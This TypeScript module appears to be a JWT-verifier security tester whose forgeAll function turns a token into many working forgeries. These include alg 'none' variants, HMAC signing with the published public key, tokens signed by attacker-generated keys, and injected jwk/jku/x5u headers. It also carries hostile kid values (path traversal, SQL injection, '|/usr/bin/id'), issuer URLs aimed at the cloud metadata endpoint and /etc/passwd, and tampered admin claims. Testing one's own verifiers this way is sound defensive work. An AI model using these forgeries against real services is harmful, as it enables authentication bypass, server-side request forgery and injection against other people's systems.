import {
  createHmac,
  createPublicKey,
  generateKeyPairSync,
  type JsonWebKey,
  sign,
} from "node:crypto";
import { encode, type Forgery, type Jwt, readJwt, respell } from "./respell.ts";

const STRANGERS = [
  ["ES256", generateKeyPairSync("ec", { namedCurve: "P-256" }), "sha256"],
  ["RS256", generateKeyPairSync("rsa", { modulusLength: 2_048 }), "sha256"],
  ["EdDSA", generateKeyPairSync("ed25519"), null],
  ["PS256", generateKeyPairSync("rsa-pss", { modulusLength: 2_048 }), "sha256"],
  ["ES384", generateKeyPairSync("ec", { namedCurve: "P-384" }), "sha384"],
  ["ES512", generateKeyPairSync("ec", { namedCurve: "P-521" }), "sha512"],
  ["ES256K", generateKeyPairSync("ec", { namedCurve: "secp256k1" }), "sha256"],
] as const;

function signAsStranger({ header, claims }: Jwt, at: number, more: object, other: object = {}) {
  const [alg, { privateKey }, hash] = STRANGERS[at] ?? STRANGERS[0];
  const signed = `${encode({ ...header, alg, ...more })}.${encode({ ...claims, ...other })}`;
  const key = { key: privateKey, dsaEncoding: "ieee-p1363" as const };
  return `${signed}.${sign(hash, Buffer.from(signed), key).toString("base64url")}`;
}

const ALGORITHMS: unknown[] = [
  ..."none None NONE nOnE HS256 HS384 HS512 ES384 ES512 ES256K PS256 RS1 EdDSA RSA-OAEP dir".split(
    " ",
  ),
  "",
  "none ",
  "none\0",
  null,
  0,
  true,
  ["none"],
  {},
];

/** Headers that lead a verifier to a key of the sender's choice. */
function keyHeaders(canary: string): [string, object][] {
  const jwk = STRANGERS[0][1].publicKey.export({ format: "jwk" });
  const der = STRANGERS[0][1].publicKey.export({ format: "der", type: "spki" }).toString("base64");
  const kids = ["", "../../../../dev/null", "x' UNION SELECT 'AA' --", "|/usr/bin/id", canary];
  return [
    ["jwk", { jwk, kid: undefined }],
    ["jwk beside the kid", { jwk }],
    ["jwk with a private part", { jwk: { ...jwk, d: "AA" } }],
    ["jku", { jku: `${canary}/jwks.json` }],
    ["jku without a kid", { jku: `${canary}/jwks.json`, kid: undefined }],
    ["jku as data", { jku: `data:application/json,${JSON.stringify({ keys: [jwk] })}` }],
    ["x5u", { x5u: `${canary}/cert.pem` }],
    ["x5c", { x5c: [der] }],
    ["x5t", { x5t: "AA", "x5t#S256": "AA" }],
    ["crit of nothing", { crit: [] }],
    ["crit of exp", { crit: ["exp"], exp: 1 }],
    ["crit of an unknown", { crit: ["https://attacker.invalid/x"] }],
    ["crit that is a text", { crit: "exp" }],
    ["crit of alg", { crit: ["alg"] }],
    ["b64 false alone", { b64: false }],
    ["typ of another kind", { typ: "at+jwt" }],
    ["cty", { cty: "JWT" }],
    ["b64 false", { b64: false, crit: ["b64"] }],
    ["zip", { zip: "DEF" }],
    ["p2c of two billion", { alg: "PBES2-HS256+A128KW", enc: "A128GCM", p2s: "AA", p2c: 2e9 }],
    ...[...kids, "k".repeat(3_000), "__proto__", "constructor", null, 1, ["a"], {}].map(
      (kid): [string, object] => [`kid ${JSON.stringify(kid)?.slice(0, 40)}`, { kid }],
    ),
  ];
}

/** Signed by a stranger, as if whoever is named had issued it. */
const issuers = (canary: string): [string, object][] =>
  [
    canary,
    `${canary}/`,
    "http://169.254.169.254/latest/meta-data",
    "http://[::1]/",
    "file:///etc/passwd",
    "https://attacker.invalid",
    "",
    null,
    1,
    {},
    ["a"],
  ].map((iss) => [`iss ${JSON.stringify(iss)}`, { iss }]);

const CLAIMS: object[] = [
  { sub: "admin" },
  { sub: "" },
  { sub: ["a"] },
  { exp: 9_999_999_999 },
  { exp: "never" },
  { exp: null },
  { aud: "*" },
  { aud: [] },
  { role: "admin" },
  { project: "other" },
  { nbf: 0, iat: 0 },
];

/** The published keys as a secret, in each spelling that a verifier may read them in. */
function confuse({ header, claims }: Jwt, keys: JsonWebKey[], apiKey: string): Forgery[] {
  const texts = keys.flatMap((jwk) => {
    const key = createPublicKey({ key: jwk, format: "jwk" });
    const pem = String(key.export({ format: "pem", type: "spki" }));
    const der = key.export({ format: "der", type: "spki" });
    return [pem, pem.trim(), JSON.stringify(jwk), der, jwk.x ?? jwk.n ?? ""];
  });
  return [...texts, "", "secret", "null", apiKey].flatMap((secret, at) =>
    ["256", "384", "512"].map((bits): Forgery => {
      const signed = `${encode({ ...header, alg: `HS${bits}` })}.${encode(claims)}`;
      const mac = createHmac(`sha${bits}`, secret).update(signed).digest("base64url");
      return [`HS${bits} with the public key or a guess as secret (${at})`, `${signed}.${mac}`];
    }),
  );
}

/** What a verifier knows, or can be led to. */
interface Around {
  keys: JsonWebKey[];
  apiKey: string;
  /** An address that nobody must ask. */
  canary: string;
}

/** Everything that looks like this token and is none of its issuer's. */
export function forgeAll(
  token: string,
  other: string,
  { keys, apiKey, canary }: Around,
): Forgery[] {
  const jwt = readJwt(token);
  if (!jwt) {
    return [
      ["cut off", token.slice(0, -1)],
      ["in capitals", token.toUpperCase()],
    ];
  }
  const { header, parts } = jwt;
  return [
    ...ALGORITHMS.filter((alg) => alg !== header.alg).flatMap((alg): Forgery[] => {
      const head = `${encode({ ...header, alg })}.${parts[1]}`;
      const name = `alg ${JSON.stringify(alg)}`;
      return [
        [name, `${head}.${parts[2]}`],
        [`${name}, unsigned`, `${head}.`],
      ];
    }),
    ...confuse(jwt, keys, apiKey),
    ...STRANGERS.flatMap(([alg], at): Forgery[] => [
      [`a stranger's ${alg}`, signAsStranger(jwt, at, {})],
      [`a stranger's ${alg} as the issuer's`, signAsStranger(jwt, at, { alg: header.alg })],
    ]),
    ...keyHeaders(canary).map(([name, more]): Forgery => [name, signAsStranger(jwt, 0, more)]),
    ...issuers(canary).map(([name, more]): Forgery => [name, signAsStranger(jwt, 0, {}, more)]),
    ...CLAIMS.flatMap((claims): Forgery[] => {
      const changed = encode({ ...jwt.claims, ...claims });
      const name = `the claims ${JSON.stringify(claims)}`;
      return [
        [name, `${parts[0]}.${changed}.${parts[2]}`],
        [`${name}, by a stranger`, signAsStranger(jwt, 0, {}, claims)],
      ];
    }),
    ...respell(jwt, readJwt(other)),
  ];
}
